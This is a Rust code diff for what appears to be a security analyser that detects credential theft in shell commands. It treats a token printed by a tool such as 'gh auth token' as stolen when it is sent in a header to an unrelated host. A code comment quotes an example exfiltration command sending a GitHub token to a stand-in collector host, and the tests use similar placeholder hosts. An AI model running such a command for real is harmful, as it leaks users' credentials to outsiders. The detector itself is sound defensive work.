@@ -294,6 +294,17 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
                 | "--json"
         )
     };
+    // A token a program printed for one service, in a header to another host: stolen
+    // (`-H "Authorization: Bearer $(gh auth token)" https://collector.example`).
+    let address = texts.iter().find(|t| t.contains("://")).copied().unwrap_or("");
+    let stolen_in_header = |v: &Value| {
+        v.taint.secret.as_ref().is_some_and(|secret| {
+            !v.taint.weak_secret
+                || targets::PRINTED_TOKENS.iter().any(|(what, _)| *what == secret.what)
+                    && !address.is_empty()
+                    && !token_for(&secret.what, address)
+        })
+    };
     let mut i = 0;
     while i < texts.len() {
         let t = texts[i];
@@ -349,8 +360,7 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
                     // A token in a header is how APIs are called; a key file's content in
                     // one is not.
                     if let Some(v) = args.get(i + 1)
-                        && v.taint.secret.is_some()
-                        && !v.taint.weak_secret
+                        && stolen_in_header(v)
                     {
                         sent.taint.join(&v.taint);
                     }
@@ -483,8 +493,12 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
 }
 
 /// The service a token variable is named for (`$SLACK_BOT_TOKEN` → `slack`), unless its
-/// name is generic (`$API_KEY`, `$TOKEN`).
+/// name is generic (`$API_KEY`, `$TOKEN`); or the service of a token a program printed
+/// (`gh auth token` → `github`, [`targets::PRINTED_TOKENS`]).
 pub(crate) fn service_of(variable: &str) -> Option<String> {
+    if let Some((_, service)) = targets::PRINTED_TOKENS.iter().find(|(what, _)| *what == variable) {
+        return Some((*service).to_owned());
+    }
     let first = variable.strip_prefix('$')?.split('_').next()?.to_ascii_lowercase();
     const GENERIC: [&str; 12] = [
         "api", "my", "app", "auth", "access", "secret", "token", "x", "private", "client", "user", "bearer",
@@ -602,5 +616,9 @@ mod tests {
         assert!(!token_may_belong("$GITHUB_TOKEN", "https://gitsync.example/x"));
         assert!(!token_may_belong("$GITHUB_TOKEN", "http://3405803785/x"));
         assert!(token_may_belong("$LATE_API_KEY", "https://getlate.dev/api/v1/posts"));
+        // A token a program printed belongs to that program's service.
+        assert!(token_for("the GitHub token", "https://api.github.com/user"));
+        assert!(!token_for("the GitHub token", "https://hooks.example.invalid/collect"));
+        assert!(token_for("a Google Cloud token", "https://storage.googleapis.com/b"));
     }
 }
